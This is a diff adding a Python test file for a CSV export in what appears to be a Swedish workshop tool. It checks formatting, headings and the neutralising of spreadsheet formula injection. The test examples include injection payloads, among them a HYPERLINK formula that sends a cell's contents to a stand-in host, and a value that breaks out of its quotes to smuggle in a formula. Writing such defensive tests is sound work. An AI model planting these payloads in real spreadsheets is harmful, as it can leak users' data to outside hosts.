@@ -1,0 +1,138 @@
+"""The table is read back as it was written, by any program, and no cell of it is ever carried out."""
+
+import csv as reader
+import io
+
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from server.exports import csv
+from server.exports.summary import Summary
+from server.room.state import Settings
+from tests.gathering import Gathering, created
+from tests.unit.exports.afternoon import afternoon, assign, summary_of, write
+
+TEXTS = st.text(st.sampled_from("=+-@＝\t\r\n ;,\"'|!abÅ1"), min_size=1, max_size=40)
+
+
+def test_a_swedish_table_has_semicolons_decimal_commas_and_a_byte_order_mark() -> None:
+    table = csv.render(summary_of(afternoon()))
+
+    assert table.startswith(b"\xef\xbb\xbfRubrik;")
+    assert "Vi erbjuder en produkt;6,8;Vi erbjuder en tjänst;4\r\n" in table.decode("utf-8-sig")
+
+
+def test_an_english_table_has_commas_and_decimal_points() -> None:
+    table = csv.render(summary_of(afternoon(), "en"))
+
+    assert table.startswith(b"\xef\xbb\xbfTitle,")
+    assert "We offer a product,6.8,We offer a service,4\r\n" in table.decode("utf-8-sig")
+
+
+def test_it_begins_with_what_it_is_about() -> None:
+    about = read(summary_of(afternoon()))[:7]
+
+    assert about[:5] == [
+        ["Rubrik", "Hemtjänsten i Åmål"],
+        ["Datum", "2027-01-15"],
+        ["Nedladdat", "2027-01-16"],
+        ["Minst antal svar för ett resultat", "3"],
+        ["Dolda lappar", "0"],
+    ]
+    assert about[5][1].startswith("Bygger på Reflektionsmaterial")
+    assert about[6] == []
+
+
+def test_then_come_what_will_be_done_the_profile_and_the_boards() -> None:
+    room = afternoon()
+    write(room, "Ring alla", "next_steps/now")
+    assign(room, "Ring alla", None, "1 maj")
+    write(room, "Det är trångt", "thoughts/other", statement="offer")
+
+    headings, *rows = read(summary_of(room))[7:]
+
+    assert headings == [
+        *("Del", "Kolumn", "Text", "Vem?", "När?"),
+        *("Till vänster (1)", "Medelvärde", "Till höger (10)", "Antal svar"),
+    ]
+    assert rows[0][:5] == ["Det här gör vi", "Vad gör vi nu", "Ring alla", "Inte bestämt", "1 maj"]
+    assert {row[0] for row in rows[1:11]} == {"Så ser vi på vår verksamhet"}
+    poles = ["Vi erbjuder en produkt", "", "Vi erbjuder en tjänst", ""]
+    thought = ["Tankar och resonemang som lyfts", "Resultatet och övrigt", "Det är trångt", "", ""]
+    assert rows[11:] == [[*thought, *poles]]
+
+
+def test_a_statement_without_a_mean_says_why() -> None:
+    rows = read(summary_of(afternoon()))[8:]
+
+    assert rows[1][2] == "Nästan alla svar ligger närmast: Vi ser användaren som en resurs."
+    assert (rows[1][6], rows[1][8]) == ("", "4")
+    assert rows[2][2] == "Inget resultat har visats."
+    assert (rows[2][6], rows[2][8]) == ("", "")
+
+
+def test_alone_it_says_you() -> None:
+    rows = read(summary_of(Gathering(created(Settings(solo=True)))))[8:]
+
+    assert rows[0][0] == "Så ser du på verksamheten"
+
+
+def test_authors_have_a_column_in_a_room_that_keeps_them() -> None:
+    room = afternoon(Settings(authors=True))
+    write(room, "Det är trångt", by="Bo")
+
+    headings, *rows = read(summary_of(room))[7:]
+
+    assert headings[5] == "Skrivet av"
+    assert rows[-1][5] == "Bo"
+    assert {len(row) for row in rows} == {len(headings)}
+
+
+@given(TEXTS)
+@example('=HYPERLINK("https://example.se?"&A1;"här")')
+@example("+46 571 123 45")
+@example("- punkt")
+@example("@SUM(1)")
+@example("\t=1+1")
+@example("\r=1+1")
+@example("\n=1+1")
+@example(" =1+1")
+@example('a";=1+1;"')
+@example("＝1+1")
+def test_no_cell_is_a_formula_and_every_text_is_read_back(text: str) -> None:
+    stream = io.StringIO()
+    reader.writer(stream, delimiter=";").writerow([csv.neutral(text), "next"])
+    cell, other = next(reader.reader(io.StringIO(stream.getvalue(), newline=""), delimiter=";"))
+
+    assert cell.strip()[:1] not in set("=+-@＝＋－＠")
+    assert cell[:1] not in set("\t\r\n")
+    assert cell in (text, f"'{text}")
+    assert other == "next"
+
+
+def test_what_is_no_formula_is_left_as_it_is() -> None:
+    for text in ("Ring alla", "1 = 1", "a-b", "'citat'", "6,8", "", "…"):
+        assert csv.neutral(text) == text
+
+
+def test_every_text_that_people_write_is_neutralised() -> None:
+    room = afternoon(Settings(authors=True), title="=TITEL()")
+    room.join("Eva", "=NAMN()")
+    write(room, "=TEXT()", "next_steps/now", by="Eva")
+    assign(room, "=TEXT()", "=VEM()", "@NÄR()")
+
+    cells = [cell for row in read(summary_of(room)) for cell in row if "()" in cell]
+
+    assert cells == ["'=TITEL()", "'=TEXT()", "'=VEM()", "'@NÄR()", "'=NAMN()"]
+
+
+def test_lines_quotes_and_delimiters_stay_within_their_cell() -> None:
+    room = afternoon()
+    write(room, 'rad 1\nrad 2; "citat", slut', "next_steps/now")
+
+    assert read(summary_of(room))[8][2] == 'rad 1\nrad 2; "citat", slut'
+
+
+def read(summary: Summary) -> list[list[str]]:
+    text = csv.render(summary).decode("utf-8-sig")
+    return list(reader.reader(io.StringIO(text, newline=""), delimiter=";"))
